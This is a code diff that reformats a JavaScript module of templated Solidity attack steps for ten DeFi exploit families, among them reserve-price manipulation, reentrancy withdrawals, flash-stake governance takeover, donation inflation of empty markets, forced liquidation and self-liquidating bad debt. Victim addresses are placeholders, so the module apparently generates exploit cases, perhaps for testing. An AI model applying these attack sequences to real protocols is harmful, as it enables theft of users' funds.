@@ -5,13 +5,16 @@
 //   hit        statements of the attack with `n` of $asset in hand
 //   extra      further functions; reenter: statements run when ether arrives
 
-const swapIn = (c, pair, amount) => c.call(pair, "swap(uint256,uint256,address,bytes)", `uint256(0), ${amount}, address(this), new bytes(0)`);
-const swapBack = (c, pair, amount) => c.call(pair, "swap(uint256,uint256,address,bytes)", `${amount}, uint256(0), address(this), new bytes(0)`);
+const swapIn = (c, pair, amount) =>
+	c.call(pair, "swap(uint256,uint256,address,bytes)", `uint256(0), ${amount}, address(this), new bytes(0)`);
+const swapBack = (c, pair, amount) =>
+	c.call(pair, "swap(uint256,uint256,address,bytes)", `${amount}, uint256(0), address(this), new bytes(0)`);
 const self = "address(this)";
 
 export const FAMILIES = [
 	{
-		id: "pair_price", victims: ["$pool", "$bank", "$token"], // a lending market that prices collateral by a pair's reserves
+		id: "pair_price",
+		victims: ["$pool", "$bank", "$token"], // a lending market that prices collateral by a pair's reserves
 		hit: (c) => `uint256 out = ${c.get("$pool", "getAmountOut(uint256,address)", "n / 2, $asset")};
 		${c.call("$asset", "transfer(address,uint256)", "$pool, n / 2")}
 		${swapIn(c, "$pool", "out")}
@@ -24,18 +27,21 @@ export const FAMILIES = [
 		${swapBack(c, "$pool", "n / 2 - n / 100")}`,
 	},
 	{
-		id: "reenter", victims: ["$bank"], // a bank that pays before it books
+		id: "reenter",
+		victims: ["$bank"], // a bank that pays before it books
 		state: "uint256 $left;",
 		hit: (c) => `${c.call("$asset", "withdraw(uint256)", "n")}
 		$left = 12;
 		$send($bank, n, ${c.pack("deposit()", "")});
 		${c.call("$bank", "withdraw(uint256)", "n")}
 		$send($asset, address(this).balance, ${c.pack("deposit()", "")});`,
-		reenter: (c) => `if (msg.sender == $bank && $left > 0) { $left = $left - 1; ${c.call("$bank", "withdraw(uint256)", "address(this).balance / 2")} }`,
+		reenter: (c) =>
+			`if (msg.sender == $bank && $left > 0) { $left = $left - 1; ${c.call("$bank", "withdraw(uint256)", "address(this).balance / 2")} }`,
 		needsSend: true,
 	},
 	{
-		id: "governance", victims: ["$gov", "$stake"], // votes counted at once, executed in an emergency
+		id: "governance",
+		victims: ["$gov", "$stake"], // votes counted at once, executed in an emergency
 		state: "uint32 $bip = 18;",
 		hit: (c) => `${c.call("$asset", "approve(address,uint256)", "$stake, n")}
 		${c.call("$stake", "deposit(address,uint256)", "$asset, n")}
@@ -47,7 +53,8 @@ export const FAMILIES = [
 		require(gain > n);`,
 	},
 	{
-		id: "donation", victims: ["$market", "$comp", "$other"], // an empty market whose exchange rate a transfer inflates
+		id: "donation",
+		victims: ["$market", "$comp", "$other"], // an empty market whose exchange rate a transfer inflates
 		hit: (c) => `${c.call("$asset", "approve(address,uint256)", "$market, n")}
 		${c.call("$market", "mint(uint256)", "uint256(400000000)")}
 		uint256 s = ${c.get("$market", "balanceOf(address)", self)};
@@ -62,7 +69,8 @@ export const FAMILIES = [
 		${c.call("$market", "redeemUnderlying(uint256)", "s")}`,
 	},
 	{
-		id: "liquidation", victims: ["$pool", "$bank", "$prey", "$token"], // push the price, seize a healthy position, pull it back
+		id: "liquidation",
+		victims: ["$pool", "$bank", "$prey", "$token"], // push the price, seize a healthy position, pull it back
 		hit: (c) => `uint256 part = n / 3;
 		${c.call("$asset", "transfer(address,uint256)", "$pool, part")}
 		${swapIn(c, "$pool", "part")}
@@ -77,7 +85,8 @@ export const FAMILIES = [
 		${swapBack(c, "$pool", "part")}`,
 	},
 	{
-		id: "vault_share", victims: ["$vault", "$curve", "$lp"], // shares priced by a pool's virtual price in mid-flight
+		id: "vault_share",
+		victims: ["$vault", "$curve", "$lp"], // shares priced by a pool's virtual price in mid-flight
 		hit: (c) => `${c.call("$asset", "approve(address,uint256)", "$curve, ~uint256(0)")}
 		uint256[2] memory a;
 		a[0] = n / 4;
@@ -91,7 +100,8 @@ export const FAMILIES = [
 		${c.call("$curve", "remove_liquidity_one_coin(uint256,int128,uint256)", "lp, int128(0), uint256(0)")}`,
 	},
 	{
-		id: "skim", victims: ["$pool", "$token"], // a token that burns out of the pair on transfer
+		id: "skim",
+		victims: ["$pool", "$token"], // a token that burns out of the pair on transfer
 		hit: (c) => `${c.call("$asset", "transfer(address,uint256)", "$pool, n / 10")}
 		${swapIn(c, "$pool", "n / 11")}
 		uint256 b = ${c.get("$token", "balanceOf(address)", self)};
@@ -106,7 +116,8 @@ export const FAMILIES = [
 		${swapBack(c, "$pool", "n / 5")}`,
 	},
 	{
-		id: "snapshot", victims: ["$farm", "$reward", "$router"], // rewards paid by the balance of the moment
+		id: "snapshot",
+		victims: ["$farm", "$reward", "$router"], // rewards paid by the balance of the moment
 		hit: (c) => `${c.call("$asset", "approve(address,uint256)", "$farm, n")}
 		${c.call("$farm", "stake(uint256)", "n")}
 		${c.call("$farm", "updatePool(uint256)", "uint256(0)")}
@@ -119,7 +130,8 @@ export const FAMILIES = [
 		${c.call("$router", "swapExactTokensForTokensSupportingFeeOnTransferTokens(uint256,uint256,address[],address,uint256)", "r, uint256(0), way, address(this), block.timestamp")}`,
 	},
 	{
-		id: "mint_burn", victims: ["$stable", "$router", "$peg"], // minted at one price, burnt at another
+		id: "mint_burn",
+		victims: ["$stable", "$router", "$peg"], // minted at one price, burnt at another
 		hit: (c) => `address[] memory way = new address[](2);
 		way[0] = $asset; way[1] = $peg;
 		${c.call("$asset", "approve(address,uint256)", "$router, n")}
@@ -132,7 +144,8 @@ export const FAMILIES = [
 		${c.call("$stable", "burn(address,uint256)", "$asset, m")}`,
 	},
 	{
-		id: "bad_debt", victims: ["$bank", "$eToken", "$dToken"], // gives collateral away, then liquidates itself
+		id: "bad_debt",
+		victims: ["$bank", "$eToken", "$dToken"], // gives collateral away, then liquidates itself
 		hit: (c) => `${c.call("$asset", "approve(address,uint256)", "$bank, n")}
 		${c.call("$eToken", "deposit(uint256,uint256)", "uint256(0), n * 2 / 3")}
 		${c.call("$eToken", "mint(uint256,uint256)", "uint256(0), n * 6")}
